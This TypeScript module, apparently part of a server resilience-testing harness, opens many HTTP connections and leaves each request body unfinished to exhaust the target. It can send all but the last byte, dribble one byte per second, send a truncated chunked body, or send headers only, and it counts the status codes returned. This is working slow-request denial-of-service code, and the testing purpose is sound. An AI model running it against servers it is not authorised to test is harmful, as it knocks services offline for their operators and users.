import type { Endpoint } from "../hostile/endpoint.ts";

/**
 * How a body stays unfinished: all of it but the last byte, a byte a second, one long chunk without the
 * last byte, or a head alone.
 */
export const BODY_SHAPES = ["half-sent", "dribbled", "chunked", "announced"] as const;

type BodyShape = (typeof BODY_SHAPES)[number];

export interface BodyAttack {
  readonly path: string;
  readonly method?: "POST" | "PUT";
  readonly shape: BodyShape;
  readonly connections: number;
  /** Bytes of each body. */
  readonly bytes: number;
  readonly lengthMs: number;
  readonly isSignedIn?: boolean;
}

const PIECE = Buffer.alloc(64 * 1024, "a");
const DRIBBLE_INTERVAL_MS = 1_000;
/** Connections that open together: with bodies of a megabyte, they fill a line of a gigabit. */
const GROUP = 20;
const GROUP_INTERVAL_MS = 100;

/** Opens connections that each begin a body and never end it. @returns how often each status was answered. */
export async function sendUnfinishedBodies(
  endpoint: Endpoint,
  attack: BodyAttack,
): Promise<Record<string, number>> {
  const statuses: Record<string, number> = {};
  const count = (status: string) => {
    statuses[status] = (statuses[status] ?? 0) + 1;
  };
  const senders: Bun.Socket[] = [];
  while (senders.length < attack.connections) {
    const length = Math.min(GROUP, attack.connections - senders.length);
    const group = Array.from({ length }, () => openSender(endpoint, attack, count));
    senders.push(...(await Promise.all(group)));
    await Bun.sleep(GROUP_INTERVAL_MS);
  }
  const timer = setInterval(() => {
    if (attack.shape === "dribbled") for (const sender of senders) sender.write("a");
  }, DRIBBLE_INTERVAL_MS);
  await Bun.sleep(attack.lengthMs);
  clearInterval(timer);
  for (const sender of senders) sender.terminate();
  return statuses;
}

async function openSender(
  endpoint: Endpoint,
  attack: BodyAttack,
  onStatus: (status: string) => void,
) {
  const { hostname, port } = new URL(endpoint.url);
  const sendsAtOnce = attack.shape === "half-sent" || attack.shape === "chunked";
  let left = sendsAtOnce ? attack.bytes - 1 : 0;
  const sendRest = (socket: Bun.Socket) => {
    while (left > 0) {
      const written = socket.write(PIECE.subarray(0, left));
      if (written <= 0) return;
      left -= written;
    }
  };
  const socket = await Bun.connect({
    hostname,
    port: Number(port),
    socket: {
      data(_, data) {
        const [, status] = /^HTTP\/1\.1 (\d{3}) /.exec(data.toString("latin1")) ?? [];
        if (status !== undefined) onStatus(status);
      },
      drain: sendRest,
      error() {},
    },
  });
  socket.write(head(endpoint, attack));
  sendRest(socket);
  return socket;
}

function head(
  { token }: Endpoint,
  { method = "POST", path, shape, bytes, isSignedIn }: BodyAttack,
): string {
  const delimiter =
    shape === "chunked"
      ? `Transfer-Encoding: chunked\r\n\r\n${bytes.toString(16)}\r\n`
      : `Content-Length: ${bytes}\r\n\r\n`;
  const authorization = isSignedIn ? `Authorization: Bearer ${token}\r\n` : "";
  return (
    `${method} ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n` +
    `${authorization}${delimiter}`
  );
}
